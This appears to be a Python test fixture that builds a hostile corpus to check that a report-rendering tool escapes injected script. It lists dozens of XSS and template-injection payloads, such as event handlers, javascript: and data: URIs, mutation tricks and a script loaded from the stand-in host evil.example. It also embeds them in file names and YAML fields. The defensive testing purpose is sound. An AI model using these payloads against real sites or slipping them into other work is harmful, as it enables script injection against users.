"""Script-injection vectors, and a corpus that puts them in every place a
corpus can hold text: report bodies, front matter values, report and case
file names, case titles and descriptions, source code, truth.yaml fields.

Every vector that would run calls window.__pwned(N) or sets an attribute
"data-pwned", so a browser check can tell whether anything ran or was
injected, whichever vector it was.
"""

from __future__ import annotations

from pathlib import Path

from tests.helpers import write_tree

VECTORS = [
    "<script>__pwned(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=__pwned(2)>",
    "<img src=\"x\" onerror=\"__pwned(3)\" data-pwned=1>",
    "<svg onload=__pwned(4)>",
    "<svg><script>__pwned(5)</script></svg>",
    "<svg><a xlink:href=\"javascript:__pwned(6)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned(7)>",
    "<math href=\"javascript:__pwned(8)\">x</math>",
    "<iframe src=\"javascript:__pwned(9)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned(10)</script>\"></iframe>",
    "<body onload=__pwned(11)>",
    "<details open ontoggle=__pwned(12)>",
    "<video><source onerror=__pwned(13)></video>",
    "<audio src=x onerror=__pwned(14)>",
    "<input autofocus onfocus=__pwned(15)>",
    "<select autofocus onfocus=__pwned(16)>",
    "<textarea autofocus onfocus=__pwned(17)>",
    "<marquee onstart=__pwned(18)>",
    "<object data=\"javascript:__pwned(19)\">",
    "<embed src=\"javascript:__pwned(20)\">",
    "<a href=\"javascript:__pwned(21)\" data-pwned=1>click</a>",
    "<a href=\"JaVaScRiPt:__pwned(22)\">click</a>",
    "<a href=\"&#106;avascript:__pwned(23)\">click</a>",
    "<a href=\"data:text/html,<script>__pwned(24)</script>\">click</a>",
    "<form action=\"javascript:__pwned(25)\"><button data-pwned=1>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwned(26)\">",
    "<base href=\"javascript:__pwned(27)//\">",
    "<link rel=import href=\"data:text/html,<script>__pwned(28)</script>\">",
    "<style>@import 'javascript:__pwned(29)';</style>",
    "<div style=\"background:url(javascript:__pwned(30))\" data-pwned=1>",
    "[click](javascript:__pwned(31))",
    "[click](JAVASCRIPT:__pwned(32))",
    "[click](  javascript:__pwned(33)  )",
    "[click](vbscript:__pwned(34))",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDM1KTwvc2NyaXB0Pg==)",
    "![x](javascript:__pwned(36))",
    "![x\" onerror=\"__pwned(37)](x.png)",
    "[x](https://example.com \"title\\\" onmouseover=__pwned(38) x=\\\"\")",
    "<javascript:__pwned(39)>",
    "&lt;script&gt;__pwned(40)&lt;/script&gt;",
    "&#60;img src=x onerror=__pwned(41)&#62;",
    "<scr<script>ipt>__pwned(42)</scr</script>ipt>",
    "<img src=x onerror=__pwned(43)//",
    "\"><img src=x onerror=__pwned(44)>",
    "'><svg onload=__pwned(45)>",
    "</title><script>__pwned(46)</script>",
    "</textarea><script>__pwned(47)</script>",
    "{{ __pwned(48) }}{{ config }}",
    "{% raw %}{% endraw %}{% for x in range(3) %}pwned{% endfor %}",
    "${__pwned(50)}",
    "<!--<img src=\"--><img src=x onerror=__pwned(51)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned(52)>\">",
    "<xmp><img src=x onerror=__pwned(53)></xmp>",
    "<template><img src=x onerror=__pwned(54)></template>",
    "` <img src=x onerror=__pwned(55)> `",
    "```html\n<script>__pwned(56)</script>\n```",
]

# Names for files: no "/" and no NUL, the rest as hostile as a file system allows.
FILE_VECTORS = [
    "<img src=x onerror=__pwned(60)>",
    "<svg onload=__pwned(61)>",
    "\"><script>__pwned(62)<",
    "{{7*7}} {% x %}",
    "javascript:__pwned(63)",
]


def _yaml_str(text: str) -> str:
    import json

    return json.dumps(text)  # JSON strings are YAML strings


def hostile_corpus(root: Path) -> Path:
    """A corpus whose every text field carries the vectors."""
    all_vectors = "\n\n".join(VECTORS)
    source = "# " + "\n# ".join(v.replace("\n", " ") for v in VECTORS) + "\n" + \
        "x = \"<script>__pwned(70)</script>\"\ny = '<img src=x onerror=__pwned(71)>'\n"
    files: dict[str, str] = {
        "corpus.yaml": f"title: {_yaml_str('<script>__pwned(80)</script> corpus')}\n"
                       f"description: {_yaml_str(VECTORS[2] + VECTORS[31])}\n",
    }
    for i, name in enumerate(FILE_VECTORS):
        case = f"case {name}"
        files[f"{case}/case.yaml"] = (f"title: {_yaml_str(VECTORS[i] + ' title')}\n"
                                      f"description: {_yaml_str(VECTORS[i + 5])}\nsource: app.py\n"
                                      f"upstream: {{repo: {_yaml_str(VECTORS[21])}, path: {_yaml_str(VECTORS[46])}}}\n")
        files[f"{case}/app.py"] = source
        files[f"{case}/truth.yaml"] = (
            "verdict: defects_found\ndefects:\n"
            f"  - {{id: {_yaml_str(VECTORS[0])}, title: {_yaml_str(VECTORS[3])}, cwe: CWE-79, lines: [2, 3],"
            f" note: {_yaml_str(VECTORS[4])}}}\n")
        front = "".join(f"{key}: {_yaml_str(VECTORS[(i + k) % len(VECTORS)])}\n"
                        for k, key in enumerate(("reviewer", "model", "prompt", "date")))
        files[f"{case}/reports/{name} report.md"] = (
            f"---\n{front}---\n# {VECTORS[45]}\n\n{all_vectors}\n\n"
            f"`2 {VECTORS[5]}` and Line 3: {VECTORS[2]} and `{VECTORS[3]}`\n"
            f"| {VECTORS[0]} | `{VECTORS[6]}` |\n|---|---|\n| Line 4 | {VECTORS[21]} |\n")
        files[f"{case}/reports/plain {i}.txt"] = all_vectors
    return write_tree(root, files)
